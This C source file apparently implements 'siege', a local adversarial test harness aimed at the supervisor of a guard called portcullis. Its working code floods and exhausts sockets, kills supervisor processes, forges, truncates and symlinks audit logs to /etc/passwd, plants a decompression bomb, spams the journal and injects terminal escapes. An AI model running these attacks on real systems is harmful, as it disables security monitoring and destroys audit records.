/* What a local user, or a page, does to the guard's privileged side: `siege [behind] WAY NUMBER SECONDS [FILE]`. Nothing of it
 * leaves the machine, and all of it ends after so many seconds. `behind` goes on without its caller.
 *   once     sends a datagram to 127.0.0.1, and says so, or why not
 *   marker   the same to where nobody may send
 *   flood    so many processes that send datagrams
 *   wait     so many that connect to 192.88.1.10:8443, where nobody accepts; flip also changes whether the socket waits
 *   silent   listens there
 *   names    takes so many abstract names that a supervisor may have, each with a full queue
 *   mute     connects to every name that looks like a supervisor's, and says nothing
 *   fill     hands ordinary sockets over there, as if they were listeners of seccomp's
 *   kill     stops, ends and kills whatever supervises
 *   maps     looks like a guarded process whose policy in the folder FILE is a FIFO, and whose name and version have a terminal's escapes
 *   lock     locks whatever root's commands may lock
 *   log      empties, replaces and forges the log, with the line in FILE
 *   journal  sends the line in FILE to the journal, so many times a second
 *   escapes  starts programs whose arguments have a terminal's escapes
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <pthread.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/file.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#define LOG "/var/log/portcullis/events.jsonl"

static int number;
static char line[65536];
static int line_size;

static struct sockaddr_in address(const char *ip, int port)
{
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(port)};
    inet_pton(AF_INET, ip, &to.sin_addr);
    return to;
}

static int datagram(const char *ip, int port)
{
    int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    struct sockaddr_in to = address(ip, port);
    int done = sendto(fd, "x", 1, 0, (struct sockaddr *)&to, sizeof to) < 0 ? errno : 0;
    close(fd);
    return done;
}

static void flood(void)
{
    for (;; usleep(2000))
        datagram("192.88.1.10", 4444);
}

static volatile int flipped = -1;

static void *flips(void *nothing)
{
    (void)nothing;
    for (;; usleep(20)) {
        fcntl(flipped, F_SETFL, 0);
        fcntl(flipped, F_SETFL, O_NONBLOCK);
    }
}

static void waits(int flip)
{
    struct sockaddr_in to = address("192.88.1.10", 8443);
    pthread_t other;
    if (flip)
        pthread_create(&other, NULL, flips, NULL);
    for (;; usleep(1000)) {
        int fd = flipped = socket(AF_INET, SOCK_STREAM | (flip ? SOCK_NONBLOCK : 0), 0);
        connect(fd, (struct sockaddr *)&to, sizeof to);
        close(fd);
    }
}

static void is_silent(void)
{
    struct sockaddr_in at = address("192.88.1.10", 8443);
    int fd = socket(AF_INET, SOCK_STREAM, 0), one = 1;
    setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    if (bind(fd, (struct sockaddr *)&at, sizeof at) || listen(fd, 0))
        exit(1);
    pause();
}

/* A socket connected to a local name, or one that has it; `@` stands for the zero of an abstract one. */
static int local(const char *name, int type, int takes)
{
    struct sockaddr_un at = {.sun_family = AF_UNIX};
    strncpy(at.sun_path, name, sizeof at.sun_path - 1);
    if (*name == '@')
        at.sun_path[0] = 0;
    socklen_t size = offsetof(struct sockaddr_un, sun_path) + strlen(name) + (*name != '@');
    int fd = socket(AF_UNIX, type | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    if (fd >= 0 && (takes ? bind(fd, (void *)&at, size) || listen(fd, 0) : connect(fd, (void *)&at, size))) {
        close(fd);
        return -1;
    }
    return fd;
}

static void names(void)
{
    struct stat space;
    stat("/proc/self/ns/pid", &space);
    for (int i = 0, own = getpid(); i < number; i++) {
        char name[100];
        snprintf(name, sizeof name, "@portcullis-2-%d-%lu", own + i, (unsigned long)space.st_ino);
        if (local(name, SOCK_SEQPACKET, 1) >= 0)
            for (int j = 0; j < 2; j++)
                local(name, SOCK_SEQPACKET, 0);
    }
    pause();
}

/* Calls `each` with every name of a listener that looks like a supervisor's. */
static void every(void (*each)(const char *))
{
    char text[512], *name;
    FILE *file = fopen("/proc/net/unix", "r");
    while (file && fgets(text, sizeof text, file)) {
        text[strcspn(text, "\n")] = 0;
        name = strrchr(text, ' ');
        if (name && strstr(text, " 00010000 ") && strstr(name, "portcullis"))
            each(name + 1);
    }
    if (file)
        fclose(file);
}

static void mute(const char *name)
{
    for (int i = 0; i < 5; i++)
        local(name, SOCK_SEQPACKET, 0);
}

static void fill(const char *name)
{
    static int sent;
    struct sockaddr_un own = {.sun_family = AF_UNIX};
    for (int i = 0; i < 50 && sent < 1100; i++) {
        int to = local(name, SOCK_SEQPACKET, 0), fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
        bind(fd, (void *)&own, sizeof own.sun_family);
        listen(fd, 1);
        uint64_t words[6] = {2};
        struct iovec vector = {words, sizeof words};
        char space[CMSG_SPACE(sizeof fd)] = {0};
        struct msghdr header = {.msg_iov = &vector, .msg_iovlen = 1, .msg_control = space, .msg_controllen = sizeof space};
        struct cmsghdr *with = CMSG_FIRSTHDR(&header);
        with->cmsg_level = SOL_SOCKET;
        with->cmsg_type = SCM_RIGHTS;
        with->cmsg_len = CMSG_LEN(sizeof fd);
        memcpy(CMSG_DATA(with), &fd, sizeof fd);
        sent += to >= 0 && sendmsg(to, &header, MSG_NOSIGNAL) > 0;
        close(fd);
    }
}

static void kills(void)
{
    for (;; usleep(300000)) {
        DIR *all = opendir("/proc");
        for (struct dirent *one; (one = readdir(all));) {
            char path[300], text[64] = "";
            snprintf(path, sizeof path, "/proc/%s/cmdline", one->d_name);
            int fd = open(path, O_RDONLY), size = fd < 0 ? 0 : read(fd, text, sizeof text);
            close(fd);
            if (size >= 21 && !memcmp(text, "portcullis\0supervise", 21))
                for (int i = 0; i < 3; i++)
                    kill(atoi(one->d_name), (int[]){SIGSTOP, SIGTERM, SIGKILL}[i]);
        }
        closedir(all);
    }
}

/* What crates/policy/src/beacon.rs says of a guarded process: FILE is its policy, and a FIFO by the time that somebody opens it. */
static void maps(const char *path, char **argv)
{
    static uint64_t counters[256], none;
    static void *policy;
    char library[300];
    snprintf(library, sizeof library, "%s/libportcullis.so", path);
    snprintf(line, sizeof line, "%s/policy", path);
    int fd = open(library, O_RDWR | O_CREAT, 0644);
    ftruncate(fd, 4096);
    uint64_t *beacon = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE, fd, 0);
    memcpy(beacon, "portcullis/bcn1\0\x1b[2J\xc2\x9b" "2J", 25);
    beacon[4] = (uint64_t)&number;
    beacon[5] = (uint64_t)&policy;
    beacon[6] = (uint64_t)&none;
    beacon[7] = (uint64_t)counters;
    fd = open(line, O_RDONLY);
    policy = mmap(NULL, lseek(fd, 0, SEEK_END), PROT_READ, MAP_PRIVATE, fd, 0);
    unlink(line);
    mkfifo(line, 0644);
    prctl(PR_SET_NAME, "\x1b[2J\xc2\x9b" "2J");
    strncpy(argv[1], "\x1b]0", strlen(argv[1]));
    pause();
}

static void lock(void)
{
    const char *paths[] = {"/var/lib/portcullis", "/run/portcullis", "/etc/portcullis", "/etc/portcullis/portcullis.toml", "/var/log/portcullis", LOG};
    for (size_t i = 0; i < sizeof paths / sizeof *paths; i++)
        flock(open(paths[i], O_RDONLY), LOCK_EX | LOCK_NB);
    pause();
}

static void spoil_log(void)
{
    for (;; usleep(100000)) {
        int fd = open(LOG, O_WRONLY | O_APPEND);
        if (fd >= 0 && write(fd, line, line_size) > 0)
            ftruncate(fd, 0);
        close(fd);
        close(open(LOG, O_WRONLY | O_TRUNC));
        unlink(LOG);
        rename(LOG, LOG ".1");
        symlink("/etc/passwd", LOG);
        mkfifo(LOG ".1", 0666);
        link("/home/mallory/bomb.xz", LOG ".2.xz");
    }
}

static void journal(void)
{
    const char *sinks[] = {"/run/systemd/journal/socket", "/run/systemd/journal/dev-log"};
    static char native[sizeof line + 64];
    int size = snprintf(native, sizeof native, "SYSLOG_IDENTIFIER=portcullis\nMESSAGE=%s\n", line);
    int log = local(sinks[0], SOCK_DGRAM, 0), other = local(sinks[1], SOCK_DGRAM, 0);
    for (;; usleep(1000000 / number)) {
        send(log, native, size, 0);
        dprintf(other, "<14>portcullis: %s", line);
    }
}

static void escapes(void)
{
    char *arguments[] = {"true", "\x1b]0;x\x07\x1b[2J\xc2\x9b" "2J\xe2\x80\xae\xe2\x80\xa8", NULL};
    char *shell[] = {"sh", "-c", ": \x1b]0;x\x07\x1b[2J\xc2\x9b" "2J\xe2\x80\xae\xe2\x80\xa8", NULL};
    for (int i = 0;; i++, usleep(1000000 / number))
        if (!fork()) {
            execv(i % 2 ? "/bin/sh" : "/bin/true", i % 2 ? shell : arguments);
            _exit(127);
        } else
            wait(NULL);
}

static void go(const char *way, const char *file, char **argv)
{
    int is = strcmp(way, "mute") ? strcmp(way, "fill") ? 0 : 2 : 1;
    for (; is; usleep(500000))
        every(is == 1 ? mute : fill);
    if (!strcmp(way, "flood")) flood();
    if (!strcmp(way, "wait")) waits(0);
    if (!strcmp(way, "flip")) waits(1);
    if (!strcmp(way, "silent")) is_silent();
    if (!strcmp(way, "names")) names();
    if (!strcmp(way, "kill")) kills();
    if (!strcmp(way, "maps")) maps(file, argv);
    if (!strcmp(way, "lock")) lock();
    if (!strcmp(way, "log")) spoil_log();
    if (!strcmp(way, "journal")) journal();
    if (!strcmp(way, "escapes")) escapes();
    exit(2);
}

int main(int argc, char **argv)
{
    int is_behind = argc > 1 && !strcmp(argv[1], "behind");
    if (argc < 4 + is_behind)
        return 2;
    const char *way = argv[1 + is_behind], *file = argc > 4 + is_behind ? argv[4 + is_behind] : NULL;
    number = atoi(argv[2 + is_behind]);
    if (!strcmp(way, "once") || !strcmp(way, "marker")) {
        int error = strcmp(way, "once") ? datagram("192.88.1.10", 4444) : datagram("127.0.0.1", 8125);
        puts(error ? strerror(error) : "sent");
        return 0;
    }
    int fd = file ? open(file, O_RDONLY) : -1;
    line_size = fd < 0 ? 0 : read(fd, line, sizeof line - 1);
    close(fd);
    struct rlimit limit;
    getrlimit(RLIMIT_NOFILE, &limit);
    limit.rlim_cur = limit.rlim_max;
    setrlimit(RLIMIT_NOFILE, &limit);
    signal(SIGPIPE, SIG_IGN);
    if (is_behind) {
        if (fork())
            return 0;
        setsid();
        int nothing = open("/dev/null", O_RDWR);
        for (int i = 0; i < 3; i++)
            dup2(nothing, i);
    }
    alarm(atoi(argv[3 + is_behind]));
    int each = !strcmp(way, "flood") || !strcmp(way, "wait") || !strcmp(way, "flip");
    for (int i = 0; each && i < number; i++)
        if (!fork()) {
            prctl(PR_SET_PDEATHSIG, SIGKILL);
            go(way, file, argv);
        }
    if (each)
        for (;;)
            pause();
    go(way, file, argv);
}
